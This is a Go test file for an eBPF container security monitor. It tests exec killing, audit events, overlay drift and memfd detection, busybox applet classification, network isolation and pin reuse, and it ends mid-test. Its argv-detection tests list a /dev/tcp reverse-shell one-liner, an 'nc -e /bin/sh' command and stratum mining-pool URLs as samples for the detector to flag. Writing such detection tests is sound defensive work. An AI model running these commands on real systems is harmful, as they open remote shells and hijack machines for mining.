package monitor

import (
	"errors"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/cilium/ebpf"
	"github.com/cilium/ebpf/link"
	"golang.org/x/sys/unix"

	"github.com/vigil-dev/vigil/monitor/bpf"
	"github.com/vigil-dev/vigil/monitor/event"
)

func TestKillShellBeforeItRuns(t *testing.T) {
	requireRoot(t)
	m := openMonitor(t, testOptions(t))
	events := collect(t, m)
	cg := newCgroup(t)
	dir := t.TempDir()
	shell := helperLink(t, dir, "fakesh")
	marker := filepath.Join(dir, "ran")

	err := m.Register(cg.id, Container{
		Mode:     Enforce,
		KillMask: ClassShell,
		Names:    map[string]uint32{"fakesh": ClassShell},
	})
	if err != nil {
		t.Fatal(err)
	}
	r := runIn(t, cg, shell, []string{"fakesh"}, helperEnv+"=touch", helperFileEnv+"="+marker)
	if sig := r.signaled(); sig != syscall.SIGKILL {
		t.Fatalf("fakesh: %v (stderr %q), want killed by SIGKILL", r.state, r.stderr)
	}
	if _, err := os.Stat(marker); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("the killed program ran: %s exists (%v)", marker, err)
	}
	ev := events.wait(t, "exec of fakesh", execOf(r.pid))
	if ev.KernelAction != "killed" || ev.Process.Name != "fakesh" || ev.Process.Classes&ClassShell == 0 {
		t.Errorf("event = action %q name %q classes %s, want killed fakesh shell", ev.KernelAction, ev.Process.Name, ClassString(ev.Process.Classes))
	}
	if ev.Container.CgroupID != cg.id {
		t.Errorf("event cgroup %d, want %d", ev.Container.CgroupID, cg.id)
	}
	// The same exec under a name outside the kill mask runs.
	other := helperLink(t, dir, "worker")
	r = runIn(t, cg, other, []string{"worker"}, helperEnv+"=touch", helperFileEnv+"="+marker)
	if !r.state.Success() {
		t.Fatalf("worker: %v %s", r.state, r.stderr)
	}
	if _, err := os.Stat(marker); err != nil {
		t.Fatalf("worker did not run: %v", err)
	}
	st, err := m.Stats()
	if err != nil {
		t.Fatal(err)
	}
	if st.Kernel.Kills == 0 || st.Events == 0 {
		t.Errorf("stats %+v: want kills and events counted", st)
	}
}

func TestAuditReportsWithoutKilling(t *testing.T) {
	requireRoot(t)
	m := openMonitor(t, testOptions(t))
	events := collect(t, m)
	cg := newCgroup(t)
	dir := t.TempDir()
	shell := helperLink(t, dir, "fakesh")
	marker := filepath.Join(dir, "ran")
	err := m.Register(cg.id, Container{
		Mode:     Audit,
		KillMask: ClassShell,
		Names:    map[string]uint32{"fakesh": ClassShell},
		Meta:     event.Container{ID: "audit-test"},
	})
	if err != nil {
		t.Fatal(err)
	}
	r := runIn(t, cg, shell, []string{"fakesh", "-c", "x"}, helperEnv+"=touch", helperFileEnv+"="+marker)
	if !r.state.Success() {
		t.Fatalf("fakesh in audit mode: %v %s", r.state, r.stderr)
	}
	if _, err := os.Stat(marker); err != nil {
		t.Fatalf("fakesh did not run: %v", err)
	}
	ev := events.wait(t, "exec of fakesh", execOf(r.pid))
	self, _ := os.Executable()
	want := event.Process{
		PID: uint32(r.pid), PPID: uint32(os.Getpid()), UID: uint32(os.Getuid()),
		Name: "fakesh", Exe: "fakesh", ExePath: shell, Args: []string{"-c", "x"},
	}
	got := ev.Process
	if got.PID != want.PID || got.PPID != want.PPID || got.UID != want.UID || got.Name != want.Name ||
		got.Exe != want.Exe || got.ExePath != want.ExePath || !slices.Equal(got.Args, want.Args) {
		t.Errorf("process = %+v, want %+v", got, want)
	}
	if ev.KernelAction != "" || got.Classes&ClassShell == 0 || got.Classes&ClassRevShell != 0 {
		t.Errorf("action %q classes %s, want none and shell", ev.KernelAction, ClassString(got.Classes))
	}
	if ev.Container.ID != "audit-test" || ev.Container.CgroupID != cg.id {
		t.Errorf("container = %+v", ev.Container)
	}
	if len(got.Ancestors) == 0 || got.PName != got.Ancestors[0] {
		t.Errorf("ancestors %q pname %q", got.Ancestors, got.PName)
	}
	exe, err := StatExe(self, 0)
	if err != nil {
		t.Fatal(err)
	}
	if got.ExeDev != exe.Dev || got.ExeIno != exe.Ino {
		t.Errorf("exe dev/ino = %#x/%d, stat says %#x/%d", got.ExeDev, got.ExeIno, exe.Dev, exe.Ino)
	}
	if ev.Time.IsZero() || ev.Source != "syscall" {
		t.Errorf("time %v source %q", ev.Time, ev.Source)
	}
}

func TestUnregisteredCgroupIsSilent(t *testing.T) {
	requireRoot(t)
	m := openMonitor(t, testOptions(t))
	events := collect(t, m)
	watched, unwatched := newCgroup(t), newCgroup(t)
	dir := t.TempDir()
	shell := helperLink(t, dir, "fakesh")
	if err := m.Register(watched.id, Container{Mode: Enforce, KillMask: ClassShell, Names: map[string]uint32{"fakesh": ClassShell}}); err != nil {
		t.Fatal(err)
	}
	silent := runIn(t, unwatched, shell, []string{"fakesh"}, helperEnv+"=noop")
	if !silent.state.Success() {
		t.Fatalf("fakesh in an unregistered cgroup: %v", silent.state)
	}
	// Events of one ring buffer arrive in order: once the marker's event is
	// here, the silent exec's would have been too.
	marker := runIn(t, watched, shell, []string{"fakesh"}, helperEnv+"=noop")
	events.wait(t, "marker exec", execOf(marker.pid))
	for _, ev := range events.all() {
		if ev.Process.PID == uint32(silent.pid) {
			t.Fatalf("event from an unregistered cgroup: %+v", ev)
		}
	}
	// After Unregister the cgroup is silent and nothing is killed.
	if err := m.Unregister(watched.id); err != nil {
		t.Fatal(err)
	}
	after := runIn(t, watched, shell, []string{"fakesh"}, helperEnv+"=noop")
	if !after.state.Success() {
		t.Fatalf("fakesh after Unregister: %v", after.state)
	}
	assertNoEntries(t, m, watched.id)
}

func assertNoEntries(t *testing.T, m *Monitor, cgid uint64) {
	t.Helper()
	var cfg bpf.VigilContainerCfg
	if err := m.objs.containers.Lookup(cgid, &cfg); err == nil {
		t.Errorf("containers[%d] still set", cgid)
	}
	n := 0
	_ = purge(m.objs.nameClass, func(k *[24]byte) bool {
		if leUint64(k[:8]) == cgid {
			n++
		}
		return false
	})
	_ = purge(m.objs.exeClass, func(k *[24]byte) bool {
		if leUint64(k[:8]) == cgid {
			n++
		}
		return false
	})
	_ = purge(m.objs.egressPorts, func(k *bpf.VigilPortKey) bool {
		if k.Cgid == cgid {
			n++
		}
		return false
	})
	_ = purge(m.objs.egressAllow, func(k *bpf.VigilAllowKey) bool {
		if leUint64(k.Cgid[:]) == cgid {
			n++
		}
		return false
	})
	if n != 0 {
		t.Errorf("%d name/exe/egress entries left for %d", n, cgid)
	}
}

func leUint64(b []byte) uint64 {
	var v uint64
	for i := 7; i >= 0; i-- {
		v = v<<8 | uint64(b[i])
	}
	return v
}

// overlayDirs is an overlay mount made by the test.
type overlayDirs struct{ lower, merged, options string }

func newOverlay(t *testing.T) overlayDirs {
	t.Helper()
	base := t.TempDir()
	d := map[string]string{}
	for _, n := range []string{"lower", "upper", "work", "merged"} {
		d[n] = filepath.Join(base, n)
		if err := os.Mkdir(d[n], 0o755); err != nil {
			t.Fatal(err)
		}
	}
	return overlayDirs{
		lower:   d["lower"],
		merged:  d["merged"],
		options: "lowerdir=" + d["lower"] + ",upperdir=" + d["upper"] + ",workdir=" + d["work"],
	}
}

func (o overlayDirs) mount(t *testing.T) {
	t.Helper()
	if err := unix.Mount("overlay", o.merged, "overlay", 0, o.options); err != nil {
		t.Skipf("requires overlayfs: mount: %v", err)
	}
	t.Cleanup(func() { _ = unix.Unmount(o.merged, unix.MNT_DETACH) })
}

func TestDriftUpperLayerAndMemfd(t *testing.T) {
	requireRoot(t)
	m := openMonitor(t, testOptions(t))
	events := collect(t, m)
	cg := newCgroup(t)
	self, _ := os.Executable()
	ov := newOverlay(t)
	copyFile(t, self, filepath.Join(ov.lower, "lowerbin"))
	ov.mount(t)
	merged := ov.merged
	copyFile(t, self, filepath.Join(merged, "upperbin"))

	// The inode user space stats through the overlay is the one the kernel
	// reads from the exec'd file: register both binaries by inode.
	exes, err := RootfsExes(merged, map[string]uint32{"/lowerbin": ClassInterpreter, "/upperbin": ClassCompiler})
	if err != nil {
		t.Fatal(err)
	}
	lowerExe, err := StatExe(filepath.Join(merged, "lowerbin"), ClassInterpreter)
	if err != nil {
		t.Fatal(err)
	}
	upperExe, err := StatExe(filepath.Join(merged, "upperbin"), ClassCompiler)
	if err != nil {
		t.Fatal(err)
	}
	if len(exes) != 2 || !slices.Contains(exes, lowerExe) || !slices.Contains(exes, upperExe) {
		t.Fatalf("RootfsExes = %+v, want %+v and %+v", exes, lowerExe, upperExe)
	}
	if err := m.Register(cg.id, Container{Mode: Audit, Exes: exes}); err != nil {
		t.Fatal(err)
	}

	rl := runIn(t, cg, filepath.Join(merged, "lowerbin"), []string{"lowerbin"}, helperEnv+"=noop")
	ru := runIn(t, cg, filepath.Join(merged, "upperbin"), []string{"upperbin"}, helperEnv+"=noop")
	rm := runIn(t, cg, self, []string{"memfdparent"}, helperEnv+"=memfd", helperFileEnv+"="+filepath.Join(t.TempDir(), "m"))
	if !rl.state.Success() || !ru.state.Success() || !rm.state.Success() {
		t.Fatalf("helpers: %v %v %v %s", rl.state, ru.state, rm.state, rm.stderr)
	}

	evl := events.wait(t, "exec of lowerbin", execOf(rl.pid))
	if evl.Process.IsExeUpperLayer || evl.Process.Classes&ClassDrift != 0 {
		t.Errorf("lower-layer binary flagged upper/drift: %s", ClassString(evl.Process.Classes))
	}
	if evl.Process.ExeDev != lowerExe.Dev || evl.Process.ExeIno != lowerExe.Ino || evl.Process.Classes&ClassInterpreter == 0 {
		t.Errorf("lowerbin: kernel dev/ino %#x/%d class %s, stat %#x/%d",
			evl.Process.ExeDev, evl.Process.ExeIno, ClassString(evl.Process.Classes), lowerExe.Dev, lowerExe.Ino)
	}
	evu := events.wait(t, "exec of upperbin", execOf(ru.pid))
	if !evu.Process.IsExeUpperLayer || evu.Process.Classes&ClassDrift == 0 {
		t.Errorf("upper-layer binary not flagged: upper=%v classes %s", evu.Process.IsExeUpperLayer, ClassString(evu.Process.Classes))
	}
	if evu.Process.ExeDev != upperExe.Dev || evu.Process.ExeIno != upperExe.Ino || evu.Process.Classes&ClassCompiler == 0 {
		t.Errorf("upperbin: kernel dev/ino %#x/%d class %s, stat %#x/%d",
			evu.Process.ExeDev, evu.Process.ExeIno, ClassString(evu.Process.Classes), upperExe.Dev, upperExe.Ino)
	}
	evm := events.wait(t, "memfd exec", func(ev *event.Event) bool {
		return ev.Type == event.Execve && ev.Process.PID == uint32(rm.pid) && ev.Process.Exe == "memfd-child"
	})
	if !evm.Process.IsExeFromMemfd || evm.Process.Classes&ClassDrift == 0 {
		t.Errorf("memfd exec: memfd=%v classes %s", evm.Process.IsExeFromMemfd, ClassString(evm.Process.Classes))
	}
}

func TestMulticallBusybox(t *testing.T) {
	requireRoot(t)
	busybox, err := exec.LookPath("busybox")
	if err != nil {
		t.Skip("requires busybox (busybox-static): the multicall binary under test")
	}
	m := openMonitor(t, testOptions(t))
	events := collect(t, m)
	cg := newCgroup(t)
	rootfs := t.TempDir()
	if err := os.MkdirAll(filepath.Join(rootfs, "bin"), 0o755); err != nil {
		t.Fatal(err)
	}
	copyFile(t, busybox, filepath.Join(rootfs, "bin", "busybox"))
	// An absolute symlink, resolved inside rootfs by RootfsExes.
	if err := os.Symlink("/bin/busybox", filepath.Join(rootfs, "bin", "sh")); err != nil {
		t.Fatal(err)
	}
	exes, err := RootfsExes(rootfs, map[string]uint32{"/bin/busybox": ClassMulticall, "/bin/sh": ClassMulticall, "/bin/missing": ClassShell})
	if err != nil {
		t.Fatal(err)
	}
	if len(exes) != 1 {
		t.Fatalf("RootfsExes = %+v, want busybox once", exes)
	}
	if err := m.Register(cg.id, Container{Mode: Audit, Exes: exes, Names: map[string]uint32{"sh": ClassShell, "wget": ClassNetTool}}); err != nil {
		t.Fatal(err)
	}
	bb := filepath.Join(rootfs, "bin", "busybox")
	cases := []struct {
		name string
		path string
		argv []string
		want uint32 // classes that must be set
		not  uint32 // classes that must not be set
	}{
		{"applet as argv1", bb, []string{"busybox", "sh", "-c", "true"}, ClassShell, ClassNetTool},
		{"applet as argv0", bb, []string{"sh", "-c", "true"}, ClassShell, 0},
		{"symlink", filepath.Join(rootfs, "bin", "sh"), []string{"sh", "-c", "true"}, ClassShell, 0},
		{"path argv0", bb, []string{"/usr/bin/wget", "--help"}, ClassNetTool, ClassShell},
		{"harmless applet", bb, []string{"busybox", "true"}, 0, ClassShell | ClassNetTool},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := runIn(t, cg, tc.path, tc.argv)
			ev := events.wait(t, tc.name, execOf(r.pid))
			c := ev.Process.Classes
			if c&tc.want != tc.want || c&tc.not != 0 {
				t.Errorf("classes %s, want %s and not %s", ClassString(c), ClassString(tc.want), ClassString(tc.not))
			}
		})
	}
}

func TestArgvMarkers(t *testing.T) {
	requireRoot(t)
	m := openMonitor(t, testOptions(t))
	events := collect(t, m)
	cg := newCgroup(t)
	dir := t.TempDir()
	links := map[string]string{}
	for _, n := range []string{"fakesh", "fakenc", "plain"} {
		links[n] = helperLink(t, dir, n)
	}
	names := map[string]uint32{"fakesh": ClassShell, "fakenc": ClassNetTool}
	if err := m.Register(cg.id, Container{Mode: Audit, Names: names}); err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		name string
		argv []string
		want uint32
		not  uint32
	}{
		{"interactive shell", []string{"fakesh", "-i"}, ClassShell | ClassRevShell, 0},
		{"shell -c", []string{"fakesh", "-c", "ls -i"}, ClassShell, ClassRevShell},
		{"dev tcp", []string{"plain", "-c", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}, ClassRevShell, ClassShell},
		{"dev udp", []string{"plain", "/dev/udp/10.0.0.1/53"}, ClassRevShell, 0},
		{"nc -e", []string{"fakenc", "10.0.0.1", "4444", "-e", "/bin/sh"}, ClassNetTool | ClassRevShell, 0},
		{"nc without -e", []string{"fakenc", "-l", "4444"}, ClassNetTool, ClassRevShell},
		{"-e on a non nettool", []string{"plain", "-e", "x"}, 0, ClassRevShell},
		{"stratum", []string{"plain", "-o", "stratum+tcp://pool.example:3333", "-u", "w"}, ClassMiner, 0},
		{"stratum ssl", []string{"plain", "--url=stratum+ssl://pool.example:443"}, ClassMiner, 0},
		{"near miss", []string{"plain", "/dev/tc/x", "stratum+tcp:/x", "-ix"}, 0, ClassRevShell | ClassMiner},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			r := runIn(t, cg, links[tc.argv[0]], tc.argv, helperEnv+"=noop")
			ev := events.wait(t, tc.name, execOf(r.pid))
			c := ev.Process.Classes
			if c&tc.want != tc.want || c&tc.not != 0 {
				t.Errorf("classes %s, want %s and not %s", ClassString(c), ClassString(tc.want), ClassString(tc.not))
			}
			if !slices.Equal(ev.Process.Args, tc.argv[1:]) {
				t.Errorf("args %q, want %q", ev.Process.Args, tc.argv[1:])
			}
		})
	}
	// A long argv is cut at 512 bytes and still scanned.
	long := []string{"fakesh"}
	for len(long) < 100 {
		long = append(long, "padding")
	}
	long = append(long, "-i")
	r := runIn(t, cg, links["fakesh"], long, helperEnv+"=noop")
	ev := events.wait(t, "long argv", execOf(r.pid))
	if ev.Process.Exe != "fakesh" || len(ev.Process.Args) == 0 || len(ev.Process.Args) >= len(long)-1 {
		t.Errorf("long argv: exe %q, %d args decoded, want fakesh and a truncated list", ev.Process.Exe, len(ev.Process.Args))
	}
	if ev.Process.Classes&ClassRevShell != 0 {
		t.Errorf("long argv: the -i past 512 bytes was seen: %s", ClassString(ev.Process.Classes))
	}
	// Exactly 512 bytes: the last argument ends at the buffer's end.
	exact := []string{"fakesh", strings.Repeat("x", 512-len("fakesh\x00-i\x00")-1), "-i"}
	r = runIn(t, cg, links["fakesh"], exact, helperEnv+"=noop")
	ev = events.wait(t, "512-byte argv", execOf(r.pid))
	if ev.Process.Exe != "fakesh" || !slices.Equal(ev.Process.Args, exact[1:]) || ev.Process.Classes&ClassRevShell == 0 {
		t.Errorf("512-byte argv: exe %q args %d classes %s", ev.Process.Exe, len(ev.Process.Args), ClassString(ev.Process.Classes))
	}
}

func TestConnectAndIsolate(t *testing.T) {
	requireRoot(t)
	m := openMonitor(t, testOptions(t))
	events := collect(t, m)
	cg := newCgroup(t)
	ln, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	port := ln.Addr().(*net.TCPAddr).Port
	addr := "127.0.0.1:" + strconv.Itoa(port)
	self, _ := os.Executable()
	if err := m.Register(cg.id, Container{Mode: Audit, CgroupV2Path: cg.dir}); err != nil {
		t.Fatal(err)
	}
	if n := attachedCount(t, cg.dir); n != len(sockHooks) {
		t.Fatalf("%d programs attached to %s, want %d", n, cg.dir, len(sockHooks))
	}
	// Registering again replaces the entry without stacking programs.
	if err := m.Register(cg.id, Container{Mode: Audit, CgroupV2Path: cg.dir}); err != nil {
		t.Fatal(err)
	}
	if n := attachedCount(t, cg.dir); n != len(sockHooks) {
		t.Fatalf("%d programs attached after a second Register, want %d", n, len(sockHooks))
	}
	isConnect := func(pid int, proto string) func(*event.Event) bool {
		return func(ev *event.Event) bool {
			return ev.Type == event.Connect && ev.Process.PID == uint32(pid) && ev.File.L4Proto == proto
		}
	}

	r := runIn(t, cg, self, []string{"client"}, helperEnv+"=connect", helperAddrEnv+"="+addr)
	if !r.state.Success() {
		t.Fatalf("connect: %v %s", r.state, r.stderr)
	}
	ev := events.wait(t, "tcp connect", isConnect(r.pid, "tcp"))
	if ev.File.SIP != "127.0.0.1" || ev.File.SPort != uint16(port) || ev.File.TypeChar != "4" || ev.KernelAction != "" {
		t.Errorf("connect event file %+v action %q, want 127.0.0.1:%d", ev.File, ev.KernelAction, port)
	}
	if ev.Process.Name == "" || ev.Container.CgroupID != cg.id {
		t.Errorf("connect event process %+v container %+v", ev.Process, ev.Container)
	}

	r = runIn(t, cg, self, []string{"client"}, helperEnv+"=sendto", helperAddrEnv+"=127.0.0.1:9")
	if !r.state.Success() {
		t.Fatalf("sendto: %v %s", r.state, r.stderr)
	}
	ev = events.wait(t, "udp sendto", isConnect(r.pid, "udp"))
	if ev.File.SPort != 9 || ev.File.SIP != "127.0.0.1" {
		t.Errorf("sendto event file %+v", ev.File)
	}

	if ln6, err := net.Listen("tcp6", "[::1]:0"); err == nil {
		p6 := ln6.Addr().(*net.TCPAddr).Port
		r = runIn(t, cg, self, []string{"client"}, helperEnv+"=connect6", helperAddrEnv+"=[::1]:"+strconv.Itoa(p6))
		ln6.Close()
		ev = events.wait(t, "tcp6 connect", isConnect(r.pid, "tcp"))
		if ev.File.SIP != "::1" || ev.File.SPort != uint16(p6) || ev.File.TypeChar != "6" {
			t.Errorf("connect6 event file %+v", ev.File)
		}
	} else {
		t.Logf("IPv6 loopback unavailable, connect6 not exercised: %v", err)
	}

	if err := m.SetIsolate(cg.id, true); err != nil {
		t.Fatal(err)
	}
	r = runIn(t, cg, self, []string{"client"}, helperEnv+"=connect", helperAddrEnv+"="+addr)
	if r.state.ExitCode() != exitEPERM {
		t.Fatalf("isolated connect: %v %s, want EPERM (exit %d)", r.state, r.stderr, exitEPERM)
	}
	ev = events.wait(t, "denied connect", isConnect(r.pid, "tcp"))
	if ev.KernelAction != "denied" {
		t.Errorf("isolated connect action %q, want denied", ev.KernelAction)
	}
	r = runIn(t, cg, self, []string{"client"}, helperEnv+"=sendto", helperAddrEnv+"=127.0.0.1:9")
	if r.state.ExitCode() != exitEPERM {
		t.Fatalf("isolated sendto: %v %s, want EPERM", r.state, r.stderr)
	}
	if err := m.SetIsolate(cg.id, false); err != nil {
		t.Fatal(err)
	}
	r = runIn(t, cg, self, []string{"client"}, helperEnv+"=connect", helperAddrEnv+"="+addr)
	if !r.state.Success() {
		t.Fatalf("connect after isolation lifted: %v %s", r.state, r.stderr)
	}

	// Unregister detaches the socket programs from the cgroup.
	if err := m.Unregister(cg.id); err != nil {
		t.Fatal(err)
	}
	if n := attachedCount(t, cg.dir); n != 0 {
		t.Errorf("%d programs still attached to %s after Unregister", n, cg.dir)
	}
	if err := m.SetIsolate(cg.id, true); !errors.Is(err, ErrNotRegistered) {
		t.Errorf("SetIsolate after Unregister: %v, want ErrNotRegistered", err)
	}
}

// attachedCount counts the programs attached to a cgroup at vigil's hooks.
func attachedCount(t *testing.T, dir string) int {
	t.Helper()
	f, err := os.Open(dir)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	n := 0
	for _, h := range sockHooks {
		res, err := link.QueryPrograms(link.QueryOptions{Target: int(f.Fd()), Attach: h.attach})
		if err != nil {
			t.Fatalf("query %s programs of %s: %v", h.prog, dir, err)
		}
		n += len(res.Programs)
	}
	return n
}

func TestPinReuseAndIsolationBetweenShims(t *testing.T) {
	requireRoot(t)
	opts := testOptions(t)

	// Two shims starting at once: the lock makes exactly one load.
	var (
		wg  sync.WaitGroup
		mon [2]*Monitor
		err [2]error
	)
	for i := range mon {
		wg.Add(1)
		go func() {
			defer wg.Done()
			mon[i], err[i] = Open(opts)
		}()
	}
	wg.Wait()
	for i := range mon {
		if err[i] != nil {
			t.Fatalf("Open %d: %v", i, err[i])
		}
		t.Cleanup(func() { mon[i].Close() })
	}
	if mon[0].Loaded() == mon[1].Loaded() {
		t.Fatalf("Loaded() = %v, %v: want exactly one loader", mon[0].Loaded(), mon[1].Loaded())
	}
	if mon[0].PinDir() != mon[1].PinDir() || filepath.Dir(mon[0].PinDir()) != opts.PinRoot {
		t.Fatalf("pin dirs %s %s", mon[0].PinDir(), mon[1].PinDir())
	}
	cgA, cgB := newCgroup(t), newCgroup(t)
	if e := mon[0].Register(cgA.id, Container{Mode: Audit}); e != nil {
		t.Fatal(e)
	}
	if e := mon[1].Register(cgB.id, Container{Mode: Audit}); e != nil {
		t.Fatal(e)
	}
	evA, evB := collect(t, mon[0]), collect(t, mon[1])
	self, _ := os.Executable()
	rA := runIn(t, cgA, self, []string{"a"}, helperEnv+"=noop")
	rB := runIn(t, cgB, self, []string{"b"}, helperEnv+"=noop")
	evA.wait(t, "A's exec on A's monitor", execOf(rA.pid))
	evB.wait(t, "B's exec on B's monitor", execOf(rB.pid))
	for _, ev := range evA.all() {
		if ev.Container.CgroupID != cgA.id {
			t.Errorf("monitor A got an event of cgroup %d", ev.Container.CgroupID)
		}
	}
	for _, ev := range evB.all() {
		if ev.Container.CgroupID != cgB.id {
			t.Errorf("monitor B got an event of cgroup %d", ev.Container.CgroupID)
		}
	}

	// A third Open after the first two closed reuses the pins.
	for i := range mon {
		mon[i].Close()
	}
	m3 := openMonitor(t, opts)
	if m3.Loaded() {
		t.Errorf("third Open loaded again instead of reusing %s", m3.PinDir())
	}
	m3.Close()

	if e := Unload(opts); e != nil {
		t.Fatal(e)
	}
	if _, e := os.Stat(opts.PinRoot); !errors.Is(e, os.ErrNotExist) {
		t.Fatalf("pins left after Unload: %v", e)
	}
}

func TestRegisterValidation(t *testing.T) {
	requireRoot(t)
	m := openMonitor(t, testOptions(t))
	cases := []struct {
		name string
		cgid uint64
		c    Container
	}{
		{"zero cgroup", 0, Container{}},
		{"bad mode", 1, Container{Mode: 7}},
		{"empty name", 1, Container{Names: map[string]uint32{"": ClassShell}}},
		{"slash in name", 1, Container{Names: map[string]uint32{"bin/sh": ClassShell}}},
		{"dead init", 1, Container{InitTGID: 1<<22 + 12345}},
		{"missing cgroup dir", 1, Container{CgroupV2Path: "/sys/fs/cgroup/unified/vigil-no-such-cgroup"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			if err := m.Register(tc.cgid, tc.c); !errors.Is(err, ErrInvalid) {
				t.Fatalf("Register: %v, want ErrInvalid", err)
			}
			assertNoEntries(t, m, tc.cgid)
		})
	}
}

// With the upper layer on another file system, stat() through the overlay
// reports per-layer pseudo devices the kernel hook never sees: RootfsExes
// refuses instead of registering keys that cannot match.
func TestRootfsExesMixedFilesystems(t *testing.T) {
	requireRoot(t)
	base := t.TempDir()
	lower, upperFS, merged := filepath.Join(base, "lower"), filepath.Join(base, "tmpfs"), filepath.Join(base, "merged")
	for _, d := range []string{lower, upperFS, merged} {
		if err := os.Mkdir(d, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := unix.Mount("tmpfs", upperFS, "tmpfs", 0, "size=16m"); err != nil {
		t.Skipf("requires tmpfs: %v", err)
	}
	t.Cleanup(func() { _ = unix.Unmount(upperFS, unix.MNT_DETACH) })
	for _, d := range []string{"upper", "work"} {
		if err := os.Mkdir(filepath.Join(upperFS, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(lower, "tool"), []byte("#!/bin/sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	ov := overlayDirs{merged: merged, options: "lowerdir=" + lower + ",upperdir=" + filepath.Join(upperFS, "upper") + ",workdir=" + filepath.Join(upperFS, "work")}
	ov.mount(t)
	if _, err := RootfsExes(merged, map[string]uint32{"/tool": ClassShell}); !errors.Is(err, ErrExeKeyMismatch) {
		t.Fatalf("RootfsExes on a mixed overlay: %v, want ErrExeKeyMismatch", err)
	}
}

// openPTY returns the terminal side of a new pseudo terminal.
func openPTY(t *testing.T) *os.File {
	t.Helper()
	ptmx, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Skipf("requires /dev/ptmx: %v", err)
	}
	t.Cleanup(func() { ptmx.Close() })
	if err := unix.IoctlSetPointerInt(int(ptmx.Fd()), unix.TIOCSPTLCK, 0); err != nil {
		t.Fatal(err)
	}
	n, err := unix.IoctlGetInt(int(ptmx.Fd()), unix.TIOCGPTN)
	if err != nil {
		t.Fatal(err)
	}
	tty, err := os.OpenFile("/dev/pts/"+strconv.Itoa(n), os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { tty.Close() })
	return tty
}

func TestControllingTerminal(t *testing.T) {
	requireRoot(t)
	m := openMonitor(t, testOptions(t))
	events := collect(t, m)
	cg := newCgroup(t)
	self, _ := os.Executable()
	if err := m.Register(cg.id, Container{Mode: Audit}); err != nil {
		t.Fatal(err)
	}
	tty := openPTY(t)
	var st unix.Stat_t
	if err := unix.Fstat(int(tty.Fd()), &st); err != nil {
		t.Fatal(err)
	}
	withTerm := runInWith(t, cg, self, []string{"interactive"}, []string{helperEnv + "=noop"}, withTTY(tty))
	without := runIn(t, cg, self, []string{"batch"}, helperEnv+"=noop")
	ev := events.wait(t, "exec with a terminal", execOf(withTerm.pid))
	// tty_nr uses the same encoding as st_rdev.
	if ev.Process.TTY == 0 || uint64(ev.Process.TTY) != st.Rdev {
		t.Errorf("tty = %#x, want st_rdev %#x of %s", ev.Process.TTY, st.Rdev, tty.Name())
	}
	if ev := events.wait(t, "exec without a terminal", execOf(without.pid)); ev.Process.TTY != 0 {
		t.Errorf("tty = %#x for a process without a terminal", ev.Process.TTY)
	}
}

// A fresh machine has no bpffs: Open mounts it (checked in a private mount
// namespace where /sys/fs/bpf is hidden under a tmpfs).
func TestOpenMountsBPFFS(t *testing.T) {
	requireRoot(t)
	self, _ := os.Executable()
	cmd := exec.Command(self)
	cmd.Env = append(os.Environ(), helperEnv+"=bpffs", helperFileEnv+"="+filepath.Join(t.TempDir(), "lock"))
	cmd.SysProcAttr = &syscall.SysProcAttr{Cloneflags: syscall.CLONE_NEWNS}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("Open without bpffs: %v: %s", err, out)
	}
}

// A loader that died half-way leaves pins without the exec link that marks
// a complete set: the next Open starts over instead of reusing them.
func TestOpenReplacesPartialSet(t *testing.T) {
	requireRoot(t)
	opts := testOptions(t)
	dir := PinDir(opts.PinRoot)
	if err := os.MkdirAll(dir, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.Mkdir(filepath.Join(dir, "junk"), 0o700); err != nil {
		t.Fatal(err)
	}
	m := openMonitor(t, opts)
	if !m.Loaded() {
		t.Fatal("Open reused a partial set")
	}
	if _, err := os.Stat(filepath.Join(dir, "junk")); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("partial set not removed: %v", err)
	}
	if _, err := os.Stat(filepath.Join(dir, pinExecLink)); err != nil {
		t.Fatalf("complete set not marked: %v", err)
	}
}

func TestPruneDeadCgroups(t *testing.T) {
	requireRoot(t)
	m := openMonitor(t, testOptions(t))
	alive := newCgroup(t)
	root, err := UnifiedMount()
	if err != nil {
		t.Fatal(err)
	}
	goneDir := filepath.Join(root, "vigil-test-prune-"+strconv.Itoa(os.Getpid()))
	if err := os.Mkdir(goneDir, 0o755); err != nil {
		t.Fatal(err)
	}
	gone, err := CgroupIDOfDir(goneDir)
	if err != nil {
		t.Fatal(err)
	}
	c := Container{Mode: Audit, Names: map[string]uint32{"sh": ClassShell}, Exes: []Exe{{Dev: 1, Ino: 2, Class: ClassShell}}}
	for _, id := range []uint64{alive.id, gone} {
		if err := m.Register(id, c); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Remove(goneDir); err != nil {
		t.Fatal(err)
	}
	// A ring left by a shim that died without Close (its pid is gone), and
	// one of a live process.
	exited := exec.Command("true")
	if err := exited.Run(); err != nil {
		t.Fatal(err)
	}
	deadRing := uint64(exited.Process.Pid)<<32 | 0x5a5a
	liveRing := uint64(os.Getppid())<<32 | 0x5a5b
	for _, id := range []uint64{deadRing, liveRing} {
		rb, err := ebpf.NewMap(m.objs.innerSpec)
		if err != nil {
			t.Fatal(err)
		}
		err = m.objs.eventRings.Put(id, rb)
		rb.Close()
		if err != nil {
			t.Fatal(err)
		}
	}
	t.Cleanup(func() { m.objs.eventRings.Delete(liveRing) })
	n, err := m.Prune()
